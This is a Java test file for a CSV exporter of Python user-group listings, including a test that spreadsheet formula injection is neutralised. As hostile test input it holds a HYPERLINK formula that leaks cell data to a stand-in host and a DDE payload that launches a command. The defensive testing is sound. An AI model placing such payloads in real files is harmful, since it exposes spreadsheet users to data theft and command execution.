package org.localgroups.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.localgroups.directory.Directory;
import org.localgroups.directory.Group;
import org.localgroups.directory.GroupStatus;
import org.localgroups.directory.Link;
import org.localgroups.directory.LinkKind;
import org.localgroups.directory.Placement;
import org.localgroups.revision.Timeline;

class CsvExportTest {
  private static final CSVFormat READ =
      CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

  static List<CSVRecord> parse(String csv) throws IOException {
    return READ.parse(new StringReader(csv)).getRecords();
  }

  @Test
  void writesAHeaderAndOneRowPerGroupWithCrlf() {
    assertThat(Exports.render(DirectoryJsonTest.tiny(), ExportFormat.CSV))
        .isEqualTo(
            """
        slug,name,description,status,founded,meeting,regions,region_names,place,admin1,\
        country_code,precision,latitude,longitude,confidence,main_url,links,notes,first_listed,\
        first_listed_revision,last_changed,last_changed_revision
        pykonik,PyKonik,,active,,,poland,Poland,Kraków,Lesser Poland,PL,city,50.06143,19.93658,\
        0.98,mailto:x@y?Subject=subscribe,mailing_list mailto:x@y?Subject=subscribe,,,,,
        """
                .replace("\n", "\r\n"));
  }

  @Test
  void aGroupsTimelineFillsTheLastFourColumnsInUtcToTheSecond() throws IOException {
    Directory tiny = DirectoryJsonTest.tiny();
    Group g = tiny.groups().getFirst();
    Group stored =
        new Group(
            "g7k2m4q9x3p5w",
            g.slug(),
            g.name(),
            g.description(),
            g.links(),
            g.status(),
            g.founded(),
            g.meeting(),
            g.notes(),
            g.placement(),
            g.lines());
    Directory d = new Directory(tiny.title(), tiny.intro(), tiny.regions(), List.of(stored));
    Timeline t =
        new Timeline(
            new Timeline.Moment(3, Instant.parse("2012-02-09T18:30:00.123456Z"), "import"),
            new Timeline.Moment(17, Instant.parse("2026-12-07T14:01:02Z"), "ana"),
            List.of());
    StringWriter out = new StringWriter();
    Exports.writer(ExportFormat.CSV, Map.of(stored.id(), t)).write(d, out);

    CSVRecord row = parse(out.toString()).getFirst();
    assertThat(row.get("first_listed")).isEqualTo("2012-02-09T18:30:00Z");
    assertThat(row.get("first_listed_revision")).isEqualTo("3");
    assertThat(row.get("last_changed")).isEqualTo("2026-12-07T14:01:02Z");
    assertThat(row.get("last_changed_revision")).isEqualTo("17");
    // a group the writer has no timeline for: the same row, the four cells empty
    CSVRecord without = parse(Exports.render(d, ExportFormat.CSV)).getFirst();
    assertThat(without.get("first_listed")).isEmpty();
    assertThat(without.get("last_changed_revision")).isEmpty();
    assertThat(without.get("links")).isEqualTo(row.get("links"));
  }

  @Test
  void sampleReadsBackColumnByColumn() throws IOException {
    String csv = Exports.render(SampleDirectory.directory(), ExportFormat.CSV);
    List<CSVRecord> rows = parse(csv);
    assertThat(READ.parse(new StringReader(csv)).getHeaderNames()).isEqualTo(CsvExport.HEADER);
    assertThat(rows)
        .extracting(r -> r.get("slug"))
        .containsExactly("pykonik", "python-ireland", "austin-python", "lone-star-pythonistas");

    CSVRecord pykonik = rows.get(0);
    assertThat(pykonik.get("description")).isEqualTo("Kraków Python user group, meets monthly");
    assertThat(pykonik.get("founded")).isEqualTo("February 2012");
    assertThat(pykonik.get("meeting")).isEqualTo("meets the 2nd Thursday of the month");
    assertThat(pykonik.get("main_url")).isEqualTo("http://www.pykonik.org/");
    assertThat(pykonik.get("links"))
        .isEqualTo(
            "website http://www.pykonik.org/"
                + " | meetup https://www.meetup.com/pl-PL/PyKonik/"
                + " | facebook https://www.facebook.com/pykonik"
                + " | mailing_list "
                + SampleDirectory.MAILTO);
    assertThat(pykonik.get("notes")).isEqualTo("Talks in Polish and English");
    assertThat(pykonik.get("admin1")).isEqualTo("Lesser Poland");

    CSVRecord ireland = rows.get(1);
    assertThat(ireland.get("regions")).isEqualTo("europe-ireland; europe-united-kingdom");
    assertThat(ireland.get("region_names")).isEqualTo("Ireland; United Kingdom");
    assertThat(ireland.get("precision")).isEqualTo("country");
    assertThat(ireland.get("links"))
        .contains(
            SampleDirectory.LINKEDIN,
            SampleDirectory.PHOTOS,
            "irc irc://irc.libera.chat/#python-ie",
            "email mailto:info@python.ie");
    assertThat(ireland.get("main_url")).isEqualTo("https://python.ie/");

    CSVRecord austin = rows.get(2);
    assertThat(austin.get("latitude")).isEqualTo("30.267153");
    assertThat(austin.get("longitude")).isEqualTo("-97.743061");
    assertThat(austin.get("status")).isEqualTo("starting");
    assertThat(austin.get("description")).isEqualTo("'= just starting, say hello");
    assertThat(austin.get("main_url")).isEmpty();
    assertThat(austin.get("links"))
        .isEqualTo(
            "wiki_page AustinPUG"
                + " | jobs https://austin.example.org/jobs?q=python&page=2"
                + " | other https://example.org/a%20b/c");

    CSVRecord loneStar = rows.get(3);
    assertThat(loneStar.get("precision")).isEqualTo("unplaced");
    assertThat(loneStar.get("latitude")).isEmpty();
    assertThat(loneStar.get("longitude")).isEmpty();
    assertThat(loneStar.get("status")).isEqualTo("inactive");
  }

  @Test
  void defusesFormulasInTextCellsButNotInNumbers() throws IOException {
    Group evil =
        new Group(
            "-evil",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
            "+1 555 0100",
            List.of(new Link(LinkKind.WEBSITE, "@SUM(1+1)*cmd|' /C calc'!A0", "", "")),
            GroupStatus.ACTIVE,
            "-2012",
            "\tmonthly",
            List.of("\r=1+1"),
            new Placement(
                Placement.Precision.CITY,
                "=place",
                "=C",
                "@admin",
                -33.86882,
                -151.20929,
                0,
                0.5,
                ""),
            List.of());
    CSVRecord row =
        parse(
                Exports.render(
                    new Directory("", List.of(), List.of(), List.of(evil)), ExportFormat.CSV))
            .getFirst();
    assertThat(row.get("slug")).isEqualTo("'-evil");
    assertThat(row.get("name")).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")");
    assertThat(row.get("description")).isEqualTo("'+1 555 0100");
    assertThat(row.get("main_url")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
    assertThat(row.get("founded")).isEqualTo("'-2012");
    assertThat(row.get("meeting")).isEqualTo("'\tmonthly");
    assertThat(row.get("notes")).isEqualTo("'\r=1+1");
    assertThat(row.get("place")).isEqualTo("'=place");
    assertThat(row.get("country_code")).isEqualTo("'=C");
    assertThat(row.get("admin1")).isEqualTo("'@admin");
    assertThat(row.get("latitude")).isEqualTo("-33.86882");
    assertThat(row.get("longitude")).isEqualTo("-151.20929");
  }

  @Property(tries = 200)
  void noTextCellStartsAFormulaAndEveryCellReadsBack(@ForAll("directories") Directory d)
      throws IOException {
    List<CSVRecord> rows = parse(Exports.render(d, ExportFormat.CSV));
    assertThat(rows).hasSize(d.groups().size());
    for (int i = 0; i < rows.size(); i++) {
      CSVRecord row = rows.get(i);
      Group g = d.groups().get(i);
      assertThat(row.size()).isEqualTo(CsvExport.HEADER.size());
      assertThat(row.get("name")).isEqualTo(CsvExport.text(g.name()));
      assertThat(row.get("description")).isEqualTo(CsvExport.text(g.description()));
      for (String column :
          List.of(
              "slug",
              "name",
              "description",
              "founded",
              "meeting",
              "place",
              "admin1",
              "country_code",
              "main_url",
              "links",
              "notes")) {
        assertThat(row.get(column))
            .doesNotStartWith("=")
            .doesNotStartWith("+")
            .doesNotStartWith("-")
            .doesNotStartWith("@")
            .doesNotStartWith("\t")
            .doesNotStartWith("\r");
      }
      for (String number : List.of("latitude", "longitude", "confidence")) {
        assertThat(row.get(number)).matches("|-?\\d+(\\.\\d+)?");
      }
    }
  }

  @Provide
  Arbitrary<Directory> directories() {
    return new DirectoryJsonPropertiesTest().directories();
  }
}
